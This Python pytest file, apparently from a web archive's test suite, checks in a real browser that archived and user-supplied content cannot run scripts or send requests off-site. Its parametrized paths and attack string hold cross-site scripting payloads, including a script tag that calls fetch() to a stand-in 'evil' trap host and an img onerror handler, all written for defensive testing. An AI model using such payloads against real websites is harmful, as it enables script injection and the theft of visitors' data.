"""Pages that attack: nothing of theirs runs in a real browser, and no request leaves for anywhere."""

from __future__ import annotations

from collections.abc import Iterator

import httpx
import pytest
from playwright.sync_api import Browser, Page

from tests.archive.web.hostile import hostile
from tests.website import Trap


class Watched:
    """A page in a real browser, and what it asked for."""

    def __init__(self, browser: Browser) -> None:
        self.context = browser.new_context()
        self.asked: list[str] = []
        self.dialogs: list[str] = []
        self.context.on("request", lambda request: self.asked.append(request.url))
        self.page: Page = self.context.new_page()
        self.page.on("dialog", lambda dialog: self.dialogs.append(dialog.message))


@pytest.fixture(scope="module")
def watched(browser: Browser) -> Iterator[Watched]:
    opened = Watched(browser)
    yield opened
    opened.context.close()


HOSTILE = 4  # the article, as tests/archive/web/conftest.py stores it
CAPTURE = 6


@pytest.mark.parametrize(
    "path",
    [
        "/",
        f"/article/{HOSTILE}",
        f"/article/{HOSTILE}?as-of=2026",
        f"/article/{HOSTILE}?as-of=2026-03-01&x=<script>1</script>",
        f"/versions/{HOSTILE}?full=1",
        f"/similar/{HOSTILE}",
        "/search?q=storm",
        "/search?q=%3Cscript%3Edocument.title='ran'%3C/script%3E",
        "/search?q=storm&country=%22%3E%3Cscript%3Edocument.title='ran'%3C/script%3E",
        "/months?by=theme",
        "/months?by=kind",
        "/people?q=script",
        "/offices",
        "/person?name={attack}",
        "/office?name={attack}",
        f"/raw/{CAPTURE}",
        f"/raw/{CAPTURE}/page",
        f"/raw/{CAPTURE}/source",
        "/archive/articles?_facet=lang",
        f"/archive/articles/{HOSTILE}",
        "/archive/links",
        "/archive/contacts",
        "/archive/repairs",
        "/archive?sql=select+*+from+versions",
        "/archive?sql=%3C/textarea%3E%3Cscript%3Edocument.title='ran'%3C/script%3E",
        "/nowhere/%3Cscript%3Edocument.title='ran'%3C/script%3E",
    ],
    ids=lambda path: path.split("?")[0],
)
def test_nothing_runs_and_nothing_leaves(watched: Watched, base: str, evil: Trap, path: str) -> None:
    attack = (
        f"<script>document.title='ran';fetch('{evil.address}/s')</script>"
        "<img src=x onerror=\"document.title='ran'\">"
    )
    page = watched.page
    watched.asked.clear()
    page.goto(base + path.replace("{attack}", attack.replace("'", "%27").replace('"', "%22")))
    page.wait_for_timeout(60)
    assert page.title() not in ("ran", "1")
    assert page.evaluate("document.scripts.length") == 0
    assert watched.dialogs == []
    assert [url for url in watched.asked if not url.startswith(base)] == []
    assert not evil.knocked()


def test_these_are_the_hostile_ones(http: httpx.Client) -> None:
    for path in (f"/article/{HOSTILE}", f"/versions/{HOSTILE}", f"/archive/articles/{HOSTILE}"):
        assert "&lt;script&gt;document.title=" in http.get(path).text, path
    assert "<script>document.title" in http.get(f"/raw/{CAPTURE}/source").text


def test_the_trap_would_tell(watched: Watched, evil: Trap) -> None:
    """The hostile page, shown as it is, does run, and does call: so the tests above can fail."""
    _, raw = hostile(evil.address)
    page = raw.decode().replace('http-equiv="refresh"', "")
    watched.page.goto("about:blank")  # the policy of the page before would hold
    watched.page.set_content(page, wait_until="commit")
    calls = 0
    for _ in range(40):
        # Whoever knocks is sent away, so that the browser goes on to the next.
        calls += evil.knocked()
        watched.page.wait_for_timeout(25)
    assert watched.page.title() == "ran"
    assert calls > 1
    watched.page.goto("about:blank")
    while evil.knocked():
        pass
